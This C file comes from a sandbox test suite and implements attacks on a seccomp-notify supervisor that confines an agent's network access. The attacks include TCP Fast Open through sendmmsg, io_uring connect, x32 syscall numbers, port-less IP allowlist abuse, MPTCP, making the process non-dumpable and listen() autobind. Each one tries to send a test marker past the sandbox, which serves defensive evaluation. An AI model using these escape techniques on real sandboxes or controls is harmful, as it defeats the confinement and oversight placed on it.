/* notify.c - attacks aimed at seccomp user-notification mediation (the PR
 * follow-up's design, openshell-reference.md §6; docs/notify.md): races on
 * what the supervisor reads, calls it never sees, the IP-only allowlist,
 * and the supervisor's capacity. Each ends by trying to put the marker
 * where a witness sees it; under `none` the same path simply works.
 * This file: the helpers the family shares (notify_int.h), the calls the
 * supervisor never sees (N03 sendmmsg, N04 io_uring, N05 x32, N10 listen),
 * the IP-only allowlist (N06), the agent it cannot read (N09), and the
 * table. The races and the pressure on its capacity (N01, N02, N07, N08)
 * are in notify_race.c. */
#include <arpa/inet.h>
#include <errno.h>
#include <liburing.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <unistd.h>

#include "attack.h"
#include "notify_int.h"

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
#define X32_BIT 0x40000000L

/* The allowed upstream's address, which the follow-up pins: an attacker
 * learns it from the proxy's answers or public DNS. */
static const char *pinned_upstream(void)
{
	const char *s = getenv("PARITY_UPSTREAM_V4");
	return s && *s ? s : "203.0.113.80";
}

/* A blocking connect bounded by SO_SNDTIMEO (the kernel honours it for
 * connect), so that no attack outlives its budget. */
int notify_bounded_socket(int family, int proto, int timeout_ms)
{
	int fd = socket(family, SOCK_STREAM | SOCK_CLOEXEC, proto);
	struct timeval tv = {timeout_ms / 1000, (timeout_ms % 1000) * 1000};
	if (fd >= 0) {
		setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	}
	return fd;
}

void notify_sockaddr_v4(struct sockaddr_in *sa, const char *host, uint16_t port)
{
	struct sockaddr_storage ss;
	attack_sockaddr(host, port, &ss);
	memcpy(sa, &ss, sizeof(*sa));
}

/* Connect (bounded), log, send the marker when connected. */
int notify_connect_and_mark(const struct attack_env *env, struct attack_log *log, int family,
			    int proto, const char *host, uint16_t port, const char *label)
{
	struct sockaddr_storage ss;
	socklen_t len = attack_sockaddr(host, port, &ss);
	int fd = notify_bounded_socket(family, proto, 2000), err, r;
	ssize_t n;

	err = errno;
	attack_step(log, "socket", fd, err, "%s, SOCK_STREAM, %s",
		    family == AF_INET6 ? "AF_INET6" : "AF_INET",
		    proto == IPPROTO_MPTCP ? "IPPROTO_MPTCP" : "0");
	if (fd < 0)
		return CLAIM_BLOCKED;
	r = connect(fd, (struct sockaddr *)&ss, len);
	err = errno;
	attack_step(log, "connect", r, err, "%s%s%s:%u", strchr(host, ':') ? "[" : "", host,
		    strchr(host, ':') ? "]" : "", port);
	if (r < 0) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	n = attack_send_marker(env, fd, label);
	err = errno;
	attack_step(log, "send", n, err, "marker");
	close(fd);
	return n > 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

/* ---- N03: sendmmsg, which the filter does not list ------------------ */

/* A socket of `type` and one sendmmsg of the marker payload to the sink's
 * `port` with `flags`: the syscall platform-notify leaves out. *fd is the
 * socket (-1: none), *n the payload's length; returns sendmmsg's result
 * (errno in *err). */
static int sendmmsg_marker(const struct attack_env *env, struct attack_log *log, int type,
			   uint16_t port, const char *id, int flags, char *payload, size_t cap,
			   int *fd, int *n, int *err)
{
	struct sockaddr_in sink;
	struct iovec iov;
	struct mmsghdr m;
	int r;

	notify_sockaddr_v4(&sink, env->sink_v4, port);
	*n = attack_marker_payload(env, id, payload, cap);
	*fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);
	*err = errno;
	attack_step(log, "socket", *fd, *err, "AF_INET, %s, 0",
		    type == SOCK_STREAM ? "SOCK_STREAM" : "SOCK_DGRAM");
	if (*fd < 0)
		return -1;
	iov.iov_base = payload;
	iov.iov_len = (size_t)*n;
	memset(&m, 0, sizeof(m));
	m.msg_hdr.msg_name = &sink;
	m.msg_hdr.msg_namelen = sizeof(sink);
	m.msg_hdr.msg_iov = &iov;
	m.msg_hdr.msg_iovlen = 1;
	r = sendmmsg(*fd, &m, 1, flags);
	*err = errno;
	attack_step(log, "sendmmsg", r, *err, "1 message%s, to %s:%u, the marker",
		    flags & MSG_FASTOPEN ? ", MSG_FASTOPEN" : "", env->sink_v4, port);
	return r;
}

static int n03_tfo(const struct attack_env *env, struct attack_log *log)
{
	char payload[256];
	int fd, r, err, n;
	struct pollfd p;

	/* TCP Fast Open: an implicit connect inside the send, which
	 * neither the notify filter (no sendmmsg) nor, on this kernel,
	 * Landlock's connect hook sees. */
	r = sendmmsg_marker(env, log, SOCK_STREAM, 443, "N03", MSG_FASTOPEN, payload,
			    sizeof(payload), &fd, &n, &err);
	if (fd < 0)
		return CLAIM_BLOCKED;
	if (r < 0 && err != EINPROGRESS) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	/* Without a cookie the data waits for the handshake: let it finish
	 * and write the marker again (write() is not intercepted either). */
	p.fd = fd;
	p.events = POLLOUT;
	r = poll(&p, 1, 2000);
	if (r > 0) {
		int soerr = 0;
		socklen_t l = sizeof(soerr);
		getsockopt(fd, SOL_SOCKET, SO_ERROR, &soerr, &l);
		attack_step(log, "poll", soerr ? -1 : r, soerr, "handshake");
		if (!soerr) {
			ssize_t w = write(fd, payload, (size_t)n);
			attack_step(log, "write", w, errno, "marker");
			close(fd); /* the data goes before the FIN */
			return CLAIM_ESCAPED;
		}
	}
	close(fd);
	return r > 0 ? CLAIM_BLOCKED : CLAIM_UNSURE;
}

static int n03_udp(const struct attack_env *env, struct attack_log *log)
{
	char payload[256];
	int fd, r, err, n;

	r = sendmmsg_marker(env, log, SOCK_DGRAM, 9999, "N03.udp", 0, payload, sizeof(payload), &fd,
			    &n, &err);
	if (fd < 0)
		return CLAIM_BLOCKED;
	close(fd);
	return r == 1 ? CLAIM_UNSURE : CLAIM_BLOCKED; /* only the capture knows */
}

/* ---- N04: io_uring connect ------------------------------------------ */

static int n04_io_uring(const struct attack_env *env, struct attack_log *log)
{
	struct io_uring ring;
	struct io_uring_sqe *sqe;
	struct io_uring_cqe *cqe;
	struct sockaddr_in sink;
	char payload[256];
	int fd, r, n;

	notify_sockaddr_v4(&sink, env->sink_v4, 443);
	r = io_uring_queue_init(4, &ring, 0);
	attack_step(log, "io_uring_setup", r < 0 ? -1 : 0, -r, "4 entries");
	if (r < 0)
		return CLAIM_BLOCKED;
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	attack_step(log, "socket", fd, errno, "AF_INET, SOCK_STREAM, 0");
	if (fd < 0) {
		io_uring_queue_exit(&ring);
		return CLAIM_BLOCKED;
	}
	sqe = io_uring_get_sqe(&ring);
	io_uring_prep_connect(sqe, fd, (struct sockaddr *)&sink, sizeof(sink));
	io_uring_submit(&ring);
	r = io_uring_wait_cqe(&ring, &cqe);
	n = r == 0 ? cqe->res : r;
	if (r == 0)
		io_uring_cqe_seen(&ring, cqe);
	attack_step(log, "IORING_OP_CONNECT", n < 0 ? -1 : n, -n, "%s:443 (no connect syscall)",
		    env->sink_v4);
	if (n == 0) {
		n = attack_marker_payload(env, "N04", payload, sizeof(payload));
		sqe = io_uring_get_sqe(&ring);
		io_uring_prep_send(sqe, fd, payload, (size_t)n, 0);
		io_uring_submit(&ring);
		if (io_uring_wait_cqe(&ring, &cqe) == 0) {
			attack_step(log, "IORING_OP_SEND", cqe->res < 0 ? -1 : cqe->res, -cqe->res,
				    "marker");
			io_uring_cqe_seen(&ring, cqe);
		}
	}
	io_uring_queue_exit(&ring);
	close(fd);
	return n >= 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

/* ---- N05: x32 syscall numbers --------------------------------------- */

static int n05_x32(const struct attack_env *env, struct attack_log *log)
{
	struct sockaddr_in sink;
	char payload[256];
	long fd, r;
	int n;

	notify_sockaddr_v4(&sink, env->sink_v4, 443);
	/* x32 shares socket (41), connect (42) and write (1) with x86_64, with
	 * bit 30 set; the arch is still AUDIT_ARCH_X86_64, so the follow-up's
	 * arch check passes them and its nr compare matches none. */
	fd = syscall(X32_BIT | SYS_socket, AF_INET, SOCK_STREAM, 0);
	attack_step(log, "socket(x32)", fd, errno, "nr 0x40000000|41");
	if (fd < 0)
		return CLAIM_BLOCKED;
	r = syscall(X32_BIT | SYS_connect, fd, &sink, sizeof(sink));
	attack_step(log, "connect(x32)", r, errno, "nr 0x40000000|42, %s:443", env->sink_v4);
	if (r == 0) {
		n = attack_marker_payload(env, "N05", payload, sizeof(payload));
		r = syscall(X32_BIT | SYS_write, fd, payload, n);
		attack_step(log, "write(x32)", r, errno, "marker");
	}
	close((int)fd);
	return r > 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

/* ---- N06: a pinned address on any port ------------------------------ */

static int n06_upstream(const struct attack_env *env, struct attack_log *log)
{
	/* The allowed upstream directly (bypassing the proxy and its policy):
	 * the follow-up's is_allowed(ip) has no port, and the connect runs in
	 * the supervisor, outside the agent's Landlock domain. */
	int a =
	    notify_connect_and_mark(env, log, AF_INET, 0, pinned_upstream(), 443, "N06.upstream");
	int b =
	    notify_connect_and_mark(env, log, AF_INET, 0, pinned_upstream(), 80, "N06.upstream");
	return a == CLAIM_ESCAPED || b == CLAIM_ESCAPED ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

static int n06_loopback(const struct attack_env *env, struct attack_log *log)
{
	/* 127.0.0.1 is pinned for the proxy, on every port: the pod's own
	 * services (here 8081 and 22) are one connect away. */
	int a = notify_connect_and_mark(env, log, AF_INET, 0, "127.0.0.1", 8081, "N06.loopback");
	int b = notify_connect_and_mark(env, log, AF_INET6, 0, "::1", 22, "N06.loopback");
	return a == CLAIM_ESCAPED || b == CLAIM_ESCAPED ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

static int n06_mptcp(const struct attack_env *env, struct attack_log *log)
{
	/* MPTCP is outside Landlock's TCP rights: under platform any address
	 * works; under notify the pinned one does. */
	int a = notify_connect_and_mark(env, log, AF_INET, IPPROTO_MPTCP, env->sink_v4, 443,
					"N06.mptcp");
	int b = notify_connect_and_mark(env, log, AF_INET, IPPROTO_MPTCP, pinned_upstream(), 443,
					"N06.mptcp");
	return a == CLAIM_ESCAPED || b == CLAIM_ESCAPED ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

/* ---- N09: make the agent non-dumpable ------------------------------- */

static int n09_not_dumpable(const struct attack_env *env, struct attack_log *log)
{
	int r = prctl(PR_SET_DUMPABLE, 0, 0, 0, 0), a, b;
	attack_step(log, "prctl", r, errno,
		    "PR_SET_DUMPABLE 0: the supervisor loses ptrace access");
	/* Fail open would let these through as the kernel's own calls. */
	a = notify_connect_and_mark(env, log, AF_INET, 0, env->sink_v4, env->proxy_port, "N09");
	b = notify_connect_and_mark(env, log, AF_INET, 0, env->proxy_host, env->proxy_port,
				    "N09-proxy");
	(void)b;
	return a;
}

/* ---- N10: listen() autobinds where bind() was mediated ---------------- */

static int n10_listen_autobind(const struct attack_env *env, struct attack_log *log)
{
	struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = htons(4444)};
	socklen_t l = sizeof(any);
	struct pollfd p;
	char port[16];
	int fd, r, err, c;
	ssize_t n;

	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	attack_step(log, "socket", fd, errno, "AF_INET, SOCK_STREAM, 0");
	if (fd < 0)
		return CLAIM_BLOCKED;
	r = bind(fd, (struct sockaddr *)&any, sizeof(any));
	err = errno;
	attack_step(log, "bind", r, err, "0.0.0.0:4444 (mediated)");
	if (r < 0) {
		close(fd);
		fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	}
	/* listen() on an unbound socket binds it to 0.0.0.0:<ephemeral>
	 * itself: no bind syscall, nothing for the supervisor to see. */
	r = listen(fd, 1);
	err = errno;
	getsockname(fd, (struct sockaddr *)&any, &l);
	attack_step(log, "listen", r, err, "autobind to 0.0.0.0:%u", ntohs(any.sin_port));
	if (r < 0) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	snprintf(port, sizeof(port), "%u", ntohs(any.sin_port));
	attack_request_accomplice(log, "tcp", port);
	p.fd = fd;
	p.events = POLLIN;
	r = poll(&p, 1, 3000);
	attack_step(log, "poll", r, errno, "accomplice dialing in");
	if (r <= 0) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	c = accept4(fd, NULL, NULL, SOCK_CLOEXEC);
	attack_step(log, "accept4", c, errno, "inbound");
	if (c < 0) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	n = attack_send_marker(env, c, "N10");
	attack_step(log, "send", n, errno, "marker to the accomplice");
	/* No pause: the marker is queued ahead of the FIN (or of the RST the
	 * accomplice's unread greeting makes), and data queued before a
	 * reset is still read. */
	close(c);
	close(fd);
	return n > 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

/* ---- the table ------------------------------------------------------ */

#define REF6 "openshell-reference.md §6"
#define NS_TCP "nftables reject (tcp to anything but the proxy address and port)"

const struct attack attacks_notify[] = {
    {
	.id = "N01",
	.family = FAM_NOTIFY,
	.title = "TOCTOU: rewrite the sockaddr between the trap and the supervisor's read",
	.tries = "A second thread flips the sockaddr connect() points at between the proxy "
		 "and the sink (on the proxy's port) while the main thread connects in a "
		 "loop. A supervisor that reads the address, approves it and lets the "
		 "kernel re-read it (CONTINUE) connects to whatever is there by then. The "
		 "follow-up reads once and connects itself from its own copy.",
	.syscalls = "thread A: socket; connect(shared sockaddr) in a loop, 1.2 s; thread B: "
		    "sin_addr = proxy / sink in a loop; send(marker) if a socket reached the "
		    "sink",
	.refs = REF6 " (TOCTOU mitigation 1); Sandlock #27; seccomp_unotify(2) NOTES",
	.expect = {NS_TCP, "none: Landlock is port-only (the sink on 3128 passes, T04)",
		   "notify: one read, connect from the supervisor's copy",
		   "notify: one read, connect from the supervisor's copy"},
	.timeout_ms = 8000,
	.run = n01_toctou,
    },
    {
	.id = "N02",
	.family = FAM_NOTIFY,
	.title = "dup2 race: swap the fd between the trap and pidfd_getfd",
	.tries = "A second thread dup2()s a non-socket (and, where one can exist, a socket "
		 "already connected to the sink) over the fd a looping connect(proxy) "
		 "names. The supervisor takes whatever is at that number when it calls "
		 "pidfd_getfd: it must check it is a socket, and it must decide on the "
		 "address, not on the socket it checked earlier.",
	.syscalls = "connect(sink:443) for a socket to swap in; thread A: socket, dup2 to "
		    "fd 200, connect(200, proxy) in a loop; thread B: dup2(/dev/null | "
		    "sink socket, 200) in a loop; send(marker) if fd 200 is at the sink",
	.refs = REF6 " (verify_socket_fd); nono PR #503",
	.expect = {NS_TCP, "Landlock connect_tcp (the sink socket cannot exist)",
		   "notify: fstat S_IFSOCK on the duplicate; the address decides",
		   "notify: fstat S_IFSOCK on the duplicate; the address decides"},
	.timeout_ms = 8000,
	.run = n02_dup2_race,
    },
    {
	.id = "N03.tfo",
	.family = FAM_NOTIFY,
	.title = "sendmmsg(MSG_FASTOPEN): a connect inside a syscall the filter does not list",
	.tries = "sendmmsg is not intercepted. With MSG_FASTOPEN on a TCP socket it connects "
		 "to the message's address, which neither the notify filter nor (before "
		 "Linux 7.2, commit 33cb713db016) Landlock's connect hook sees.",
	.syscalls = "socket(AF_INET, SOCK_STREAM, 0); sendmmsg([{sink:443, marker}], "
		    "MSG_FASTOPEN); poll; write(marker)",
	.needs = {.probe = {"entry_points.tcp_fastopen_client"},
		  .sysctl = "net/ipv4/tcp_fastopen",
		  .sysctl_mask = 1},
	.refs = REF6 " (not intercepted: sendmmsg); landlock-lsm/linux#41; commit 33cb713db016",
	.expect = {NS_TCP, "none: TFO bypasses Landlock connect_tcp on this kernel",
		   "none: sendmmsg is not intercepted (and TFO bypasses Landlock)",
		   "seccomp: MSG_FASTOPEN refused on sendmmsg"},
	.timeout_ms = 6000,
	.run = n03_tfo,
    },
    {
	.id = "N03.udp",
	.family = FAM_NOTIFY,
	.title = "sendmmsg of a UDP datagram",
	.tries = "sendmmsg on a UDP socket sends without any intercepted call; the question "
		 "is whether a UDP socket can be had at all.",
	.syscalls = "socket(AF_INET, SOCK_DGRAM, 0); sendmmsg([{sink:9999, marker}])",
	.refs = REF6 " (not intercepted: sendmmsg); openshell-reference.md §2.5",
	.expect = {"nftables reject (udp)", "seccomp: socket(AF_INET, SOCK_DGRAM) EPERM",
		   "seccomp: socket(AF_INET, SOCK_DGRAM) EPERM", "seccomp: socket allowlist"},
	.timeout_ms = 4000,
	.run = n03_udp,
    },
    {
	.id = "N04",
	.family = FAM_NOTIFY,
	.title = "io_uring connect: no connect syscall at all",
	.tries = "IORING_OP_CONNECT and IORING_OP_SEND run in the kernel on the ring's "
		 "behalf: no connect/sendto syscall for any seccomp filter to see. The base "
		 "filter refuses io_uring_setup, which is what holds here.",
	.syscalls = "io_uring_setup; socket; IORING_OP_CONNECT(sink:443); IORING_OP_SEND",
	.needs = {.probe = {"entry_points.io_uring", "entry_points.io_uring_connect"}},
	.refs = REF6 " (io_uring must be blocked); openshell-reference.md §3.1",
	.expect = {"seccomp: io_uring_setup EPERM", "seccomp: io_uring_setup EPERM",
		   "seccomp: io_uring_setup EPERM (notify never sees it)",
		   "seccomp: io_uring_setup EPERM"},
	.timeout_ms = 4000,
	.run = n04_io_uring,
    },
    {
	.id = "N05",
	.family = FAM_NOTIFY,
	.title = "x32 syscall numbers past the notify filter",
	.tries = "socket/connect/write with __X32_SYSCALL_BIT: the arch is still x86_64, so "
		 "the follow-up's arch check passes them and no nr compare matches. Real "
		 "only on kernels with CONFIG_X86_X32_ABI.",
	.syscalls = "syscall(0x40000000|41, AF_INET, SOCK_STREAM); syscall(0x40000000|42, "
		    "sink:443); syscall(0x40000000|1, marker)",
	.needs = {.probe = {"entry_points.x32"}},
	.refs = REF6 " (x32 numbers pass); openshell-reference.md §3.4",
	.expect = {NS_TCP, "Landlock connect_tcp (x32 connect is still a connect)",
		   "Landlock connect_tcp; notify never sees x32",
		   "seccomp: x32 numbers refused with an errno"},
	.timeout_ms = 4000,
	.run = n05_x32,
    },
    {
	.id = "N06.upstream",
	.family = FAM_NOTIFY,
	.title = "The pinned upstream address, directly, on any port",
	.tries = "is_allowed(ip) has no port: the allowed upstream's pinned address is "
		 "approved on 443 and 80 alike, and the supervisor connects from outside "
		 "the agent's Landlock domain, so Landlock's port rule no longer applies. A "
		 "direct flow to the upstream bypasses the proxy's policy.",
	.syscalls = "connect(203.0.113.80:443); send(marker); connect(203.0.113.80:80); "
		    "send(marker)",
	.refs = REF6 " (DnsPinnedAllowlist: IP-only); nono PR #1631",
	.expect = {NS_TCP, "Landlock connect_tcp (3128 only)",
		   "none: pinned IP on any port, connected by the supervisor (Landlock "
		   "bypassed)",
		   "notify: ip:port pinned (port_check)"},
	.run = n06_upstream,
    },
    {
	.id = "N06.loopback",
	.family = FAM_NOTIFY,
	.title = "Loopback is pinned on every port: the pod's own services",
	.tries = "127.0.0.1 and ::1 are pinned for the proxy; without a port check every "
		 "loopback service of the pod (8081, 22) is reachable, and the supervisor's "
		 "connect is not subject to the agent's Landlock rule.",
	.syscalls = "connect(127.0.0.1:8081); send(marker); connect([::1]:22); send(marker)",
	.refs = REF6 " (loopback seeded); openshell-reference.md §2.7 item 4",
	.expect = {"sandbox netns: its own loopback", "Landlock connect_tcp (3128 only)",
		   "none: loopback pinned on any port, connected by the supervisor",
		   "notify: ip:port pinned (port_check)"},
	.run = n06_loopback,
    },
    {
	.id = "N06.mptcp",
	.family = FAM_NOTIFY,
	.title = "MPTCP to the sink and to a pinned address",
	.tries = "IPPROTO_MPTCP sockets are outside Landlock's TCP rights (landlock-lsm/"
		 "linux#54). connect() is still intercepted: the sink is refused, the "
		 "pinned upstream on 443 is approved and connected.",
	.syscalls = "socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP); connect(sink:443); "
		    "connect(203.0.113.80:443); send(marker)",
	.needs = {.probe = {"protocols.mptcp"}},
	.refs = REF6 "; openshell-reference.md §7 (MPTCP); landlock-lsm/linux#54",
	.expect = {"nftables reject (MPTCP is tcp on the wire)", "none: MPTCP is outside Landlock",
		   "none: the pinned address is approved whatever the protocol",
		   "seccomp: socket allowlist (protocol 0 or IPPROTO_TCP)"},
	.run = n06_mptcp,
    },
    {
	.id = "N07",
	.family = FAM_NOTIFY,
	.title = "A flood of notifications",
	.tries = "32 threads for 1 s: connects to the proxy, connects to the sink on the "
		 "proxy's port, send/recv pairs on a socketpair. Does anything slip through "
		 "while the supervisor is saturated, and how slow does mediation get?",
	.syscalls = "32 x (socket; connect | send; recv) in loops; send(marker) if a sink "
		    "connect succeeds",
	.refs = REF6 "; Sandlock #27 (racing notifications); docs/threat-model.md",
	.expect = {NS_TCP, "none: Landlock is port-only (the sink on 3128 passes, T04)",
		   "notify: every call waits for its answer (serial, fail closed)",
		   "notify: every call waits for its answer"},
	.timeout_ms = 10000,
	.run = n07_flood,
    },
    {
	.id = "N08",
	.family = FAM_NOTIFY,
	.title = "Make the supervisor wait: blocking connects into a full accept queue",
	.tries = "The agent cannot signal the supervisor (Landlock scope), but it can make it "
		 "work: 80 threads do blocking connects to its own never-accepting loopback "
		 "listener (pinned), which the supervisor performs and waits on. Does "
		 "mediation go on, does the sink stay closed, and does the run end when the "
		 "agent exits with those calls in flight?",
	.syscalls = "bind(127.0.0.1:0); listen(0); 80 x connect(127.0.0.1:port) blocking; "
		    "connect(proxy) latencies; connect(sink:3128); exit",
	.refs = REF6 "; docs/threat-model.md (a flood that makes mediation fail open)",
	.expect = {NS_TCP, "none: Landlock is port-only (the sink on 3128 passes, T04)",
		   "notify: bounded workers; over the bound, EINPROGRESS at once (closed)",
		   "notify: bounded workers"},
	.timeout_ms = 8000,
	.run = n08_stall,
    },
    {
	.id = "N09",
	.family = FAM_NOTIFY,
	.title = "The agent makes itself non-dumpable",
	.tries = "PR_SET_DUMPABLE 0 takes away the supervisor's ptrace access: it can no "
		 "longer read the sockaddr or take the socket. A supervisor that answers "
		 "CONTINUE when it cannot look fails open.",
	.syscalls = "prctl(PR_SET_DUMPABLE, 0); connect(sink:3128); connect(proxy)",
	.refs = REF6 "; docs/notify.md (the dumpable finding)",
	.expect = {NS_TCP, "none: Landlock is port-only (the sink on 3128 passes, T04)",
		   "notify: unreadable -> EPERM (closed; the agent loses the network)",
		   "notify: unreadable -> EPERM"},
	.run = n09_not_dumpable,
    },
    {
	.id = "N10",
	.family = FAM_NOTIFY,
	.title = "listen() autobinds where bind() is mediated",
	.tries = "bind(0.0.0.0) is refused (not pinned), but listen() on an unbound socket "
		 "binds it to 0.0.0.0:<ephemeral> itself, with no bind syscall. The "
		 "accomplice dials in from the internet and reads the marker.",
	.syscalls = "bind(0.0.0.0:4444); listen(1) (autobind); @parity accomplice tcp "
		    "PORT; accept; send(marker)",
	.refs = REF6 " (bind intercepted, listen not); openshell-reference.md §2.7 item 3",
	.expect = {"sandbox netns: nothing routes in", "none: bind not handled",
		   "none: listen autobinds, no bind to intercept",
		   "notify: IP bind and TCP listen refused; Landlock bind_tcp"},
	.timeout_ms = 6000,
	.run = n10_listen_autobind,
    },
    {0},
};
